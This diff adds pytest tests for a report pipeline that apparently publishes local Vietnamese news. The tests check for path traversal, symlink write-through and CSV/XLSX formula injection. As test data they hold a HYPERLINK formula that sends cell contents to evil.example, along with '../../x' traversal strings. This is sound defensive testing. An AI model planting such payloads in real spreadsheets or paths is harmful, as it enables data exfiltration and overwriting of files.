@@ -714,3 +714,86 @@ def test_docx_layout_and_numbers(written):
     items = table_with("Ngày")
     assert len(items.rows) - 1 == 5  # capped preview, and the text says so
     assert any(t.startswith("Danh sách trên gồm 5 trên tổng số") for t in texts)
+
+
+# --- files: the report folder holds the reports and nothing leaves it; text is never a formula ---------
+
+def test_report_path_keeps_keys_and_units_inside_the_folder(tmp_path):
+    from pipeline.report import report_path
+
+    out = tmp_path / "reports"
+    out.mkdir()
+    assert report_path(out, "2024-q1", "docx") == out.resolve() / "2024-Q1.docx"
+    assert report_path(out, "2024-Q1", "csv", unit="phuong-1") == out.resolve() / "2024-Q1-phuong-1.csv"
+    with pytest.raises(UsageError, match="unit '../../x' cannot name a report file"):
+        report_path(out, "2024-Q1", "md", unit="../../x")
+    with pytest.raises(UsageError, match="unknown period"):
+        report_path(out, "2024-Q1/../../../x", "md")
+    (tmp_path / "elsewhere.md").write_text("keep me")
+    (out / "2024-Q2.md").symlink_to(tmp_path / "elsewhere.md")
+    with pytest.raises(UsageError, match="leads outside"):
+        report_path(out, "2024-Q2", "md")
+
+
+def test_a_planted_temporary_link_is_not_written_through(factory, tmp_path):
+    report = report_for(factory.new(), "2024-Q1")
+    (tmp_path / "elsewhere.md").write_text("keep me")
+    (tmp_path / "2024-Q1.md.part").symlink_to(tmp_path / "elsewhere.md")  # the name the writer used to use
+    write_report(report, "md", tmp_path / "2024-Q1.md")
+    assert (tmp_path / "elsewhere.md").read_text() == "keep me"
+    assert "BÁO CÁO" in (tmp_path / "2024-Q1.md").read_text("utf-8")
+    assert not list(tmp_path.glob(".2024-Q1.md.*.part"))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1"]
+
+
+def test_formula_like_text_is_text_in_csv_and_xlsx(factory, tmp_path):
+    from pipeline.report.text import csv_safe, formula_like
+
+    assert [formula_like(f) for f in FORMULAS] == [True] * 6
+    assert not formula_like("Tin =1") and not formula_like(-3) and not formula_like("")
+    assert csv_safe(["=1+1", 5, "a"]) == ["'=1+1", 5, "a"]
+
+    @dataclass
+    class Titled(Spec):
+        text: str = ""
+
+        @property
+        def title(self) -> str:
+            return self.text
+
+    led = factory.new()
+    fill(led, [Titled(f"f{i}", "phuong-1", "news", [], {"portal": local(2024, 2, 1 + i)}, text=t)
+               for i, t in enumerate(FORMULAS)])
+    report = report_for(led, "2024-Q1")
+    write_report(report, "csv", tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
+        titles = {r["key"]: r["title"] for r in csv.DictReader(f) if r["section"] == "item"}
+    assert titles == {f"f{i}": "'" + t for i, t in enumerate(FORMULAS)}
+
+    openpyxl = pytest.importorskip("openpyxl")
+    write_report(report, "xlsx", tmp_path / "r.xlsx")
+    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Danh sách"]
+    cells = {row[1].value: row[3] for row in ws.iter_rows(min_row=2)}
+    for i, t in enumerate(FORMULAS):
+        cell = cells[f"f{i}"]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (t, "s", True)
+
+
+def test_loa_log_csv_writes_a_formula_title_as_text(tmp_path, monkeypatch, capsys):
+    from pipeline.cli import main
+    from tests.repo import make_repo, post
+
+    title = '=HYPERLINK("http://evil.example","Thông báo")'
+    root = make_repo(tmp_path, {"news/a.md": post(id="a", title=title, slug="thong-bao", channels=["portal"])})
+    cfg_text = (root / "config.toml").read_text().replace('require_approval = ["portal"]', "require_approval = []")
+    (root / "config.toml").write_text(cfg_text)
+    monkeypatch.chdir(root)
+    assert main(["publish", "--now", "2024-03-25 09:00"]) == 0
+    capsys.readouterr()
+    assert main(["log", "--format", "csv"]) == 0
+    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
+    assert rows[0] == ["published", "channel", "state", "unit", "type", "post_id", "title", "url"]
+    assert rows[1][6] == "'" + title
